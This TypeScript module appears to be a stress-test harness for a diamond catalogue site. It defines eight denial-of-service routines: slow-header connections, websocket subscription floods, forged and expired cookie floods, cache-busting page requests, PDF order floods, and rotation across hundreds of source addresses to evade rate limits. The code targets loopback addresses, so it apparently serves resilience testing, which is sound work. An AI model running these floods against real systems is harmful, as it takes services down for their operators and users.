import { once } from 'node:events';
import { Agent, get, request } from 'node:http';
import { connect, type Socket } from 'node:net';

export type AttackName =
  | 'pages'
  | 'forged'
  | 'sockets'
  | 'pictures'
  | 'slow'
  | 'papers'
  | 'ended'
  | 'addresses';

export interface AttackTarget {
  url: string;
  /** Of pictures that exist. */
  pictures: string[];
  /** A session that was good and is over. */
  endedCookie: string;
}

/** Eight neighbours: what one address alone may do is not the question. */
const addresses = Array.from({ length: 8 }, (_, at) => `127.0.9.${at + 1}`);
const agents = addresses.map((localAddress) => new Agent({ keepAlive: true, localAddress }));

let number = 0;
let going = true;
export const stop = (): void => {
  going = false;
};

/** Answers by status, and cuts. */
export const outcomes = new Map<string, number>();
const note = (outcome: string | number | undefined): void => {
  outcomes.set(String(outcome), (outcomes.get(String(outcome)) ?? 0) + 1);
};

async function ask(url: string, headers: Record<string, string>): Promise<void> {
  await new Promise<void>((resolve) => {
    const failed = () => {
      note('cut');
      resolve();
    };
    get(url, { headers, agent: agents[number++ % agents.length]! }, (response) => {
      note(response.statusCode);
      response.resume();
      response.on('close', resolve);
    }).on('error', failed);
  });
}

/** So many at once, each asking again as soon as it is answered. */
const crowd = (size: number, once: () => Promise<void>) => async (): Promise<void> => {
  await Promise.all(
    Array.from({ length: size }, async () => {
      while (going) await once();
    }),
  );
};

const distinctPages = ({ url }: AttackTarget) =>
  crowd(30, () => ask(`${url}/catalog/diamonds/?page=${1 + (number % 90)}&price_from=${number}`, {}));

const forgedCookies = ({ url }: AttackTarget) =>
  crowd(300, () =>
    ask(`${url}/api/internal/user/auctions/`, {
      cookie: `session=${number}${'x'.repeat(40)}.${'y'.repeat(43)}`,
    }),
  );

/** The signature of the cookie is right, the session is over; no page is asked for twice. */
const endedSessions = ({ url, endedCookie }: AttackTarget) =>
  crowd(60, () =>
    ask(`${url}/catalog/diamonds/?page=${1 + (number % 90)}&price_from=${number}`, { cookie: endedCookie }),
  );

/** A visitor orders PDFs, forty at once with one key; what is refused is ordered again. */
const paperOrders = (target: AttackTarget) => async (): Promise<void> => {
  const visitor = await visit(target.url);
  await crowd(40, () => order(target.url, visitor))();
};

async function visit(url: string): Promise<Record<string, string>> {
  const reply = await fetch(`${url}/api/internal/config/`);
  const { success } = (await reply.json()) as { success: { data: { csrfToken: string } } };
  const cookie = reply.headers
    .getSetCookie()
    .map((one) => one.split(';')[0])
    .join('; ');
  return { cookie, 'x-xsrf-token': success.data.csrfToken, 'content-type': 'application/json' };
}

async function order(url: string, visitor: Record<string, string>): Promise<void> {
  const key = `siege-papers-${String(Math.floor(number / 40)).padStart(24, '0')}`;
  await new Promise<void>((resolve) => {
    const sending = request(
      `${url}/api/internal/personal-catalog/pdf-custom`,
      {
        method: 'POST',
        headers: { ...visitor, 'idempotency-key': key },
        agent: agents[number++ % agents.length]!,
      },
      (response) => {
        note(response.statusCode);
        response.resume();
        response.on('close', resolve);
      },
    );
    sending.on('error', () => {
      note('cut');
      resolve();
    });
    sending.end(
      JSON.stringify({
        variant: 'list',
        source: { kind: 'items', itemsIds: [11_540, 10_200] },
        options: ['prices'],
        email: 'siege@demo.test',
        consent: true,
      }),
    );
  });
}

const pictureSizes = ({ url, pictures }: AttackTarget) =>
  crowd(40, () => {
    const turn = number;
    const width = [160, 240, 320, 480, 640, 960][turn % 6];
    return ask(`${url}/pictures/${pictures[turn % pictures.length]}/${width}`, {
      accept: turn % 2 ? 'image/avif' : 'image/webp',
    });
  });

/** Four hundred, so that no limit of one address is met. */
const manyAddresses = Array.from({ length: 400 }, (_, at) => `127.10.${at >> 7}.${(at & 127) + 1}`);

/** A hundred sockets with 480 requests each for 48,000 unknown topics; then again. */
const socketFlood =
  (from: readonly string[]) =>
  ({ url }: AttackTarget) =>
    crowd(100, async () => {
      const socket = await upgrade(url, from[number++ % from.length]!);
      if (!socket) return;
      const gone = once(socket, 'close').catch(() => {});
      for (let wish = 0; wish < 480 && !socket.destroyed; wish++)
        socket.write(
          maskedFrame(JSON.stringify({ do: 'subscribe', topic: `lot:${900_000 + number++}`, after: 0 })),
        );
      await Promise.race([gone, new Promise((resolve) => setTimeout(resolve, 1000))]);
      socket.destroy();
    });

async function upgrade(url: string, localAddress: string): Promise<Socket | undefined> {
  const { hostname, port, origin } = new URL(url);
  const socket = connect({
    host: hostname,
    port: Number(port),
    localAddress,
  });
  socket.on('error', () => note('cut'));
  socket.write(
    [
      'GET /live/ HTTP/1.1',
      `Host: ${hostname}:${port}`,
      `Origin: ${origin}`,
      'Upgrade: websocket',
      'Connection: Upgrade',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      '\r\n',
    ].join('\r\n'),
  );
  const first = await once(socket, 'data').catch(() => undefined);
  const status = /^HTTP\/1\.1 (\d+)/.exec(String(first?.[0]))?.[1];
  note(status);
  socket.resume();
  if (status === '101') return socket;
  socket.destroy();
  return undefined;
}

/** A short text frame as a browser sends it; the mask is zeros. */
function maskedFrame(text: string): Buffer {
  const body = Buffer.from(text);
  return Buffer.concat([Buffer.from([0x81, 0x80 | body.length, 0, 0, 0, 0]), body]);
}

/** Eight hundred connections whose requests never come to an end. */
const slowConnections =
  ({ url }: AttackTarget) =>
  async (): Promise<void> => {
    const { hostname, port } = new URL(url);
    const open = new Set<Socket>();
    const enter = () => {
      const localAddress = addresses[number++ % addresses.length]!;
      const socket = connect({ host: hostname, port: Number(port), localAddress });
      socket.on('error', () => note('cut'));
      socket.on('close', () => open.delete(socket));
      socket.on('connect', () => note('connected'));
      socket.write(`GET / HTTP/1.1\r\nHost: ${hostname}:${port}\r\n`);
      open.add(socket);
    };
    while (going) {
      while (open.size < 800) enter();
      for (const socket of open) socket.write('X-Slow: 1\r\n');
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    for (const socket of open) socket.destroy();
  };

export const attacks: Record<AttackName, (target: AttackTarget) => () => Promise<void>> = {
  pages: distinctPages,
  forged: forgedCookies,
  sockets: socketFlood(addresses),
  pictures: pictureSizes,
  slow: slowConnections,
  papers: paperOrders,
  ended: endedSessions,
  addresses: socketFlood(manyAddresses),
};
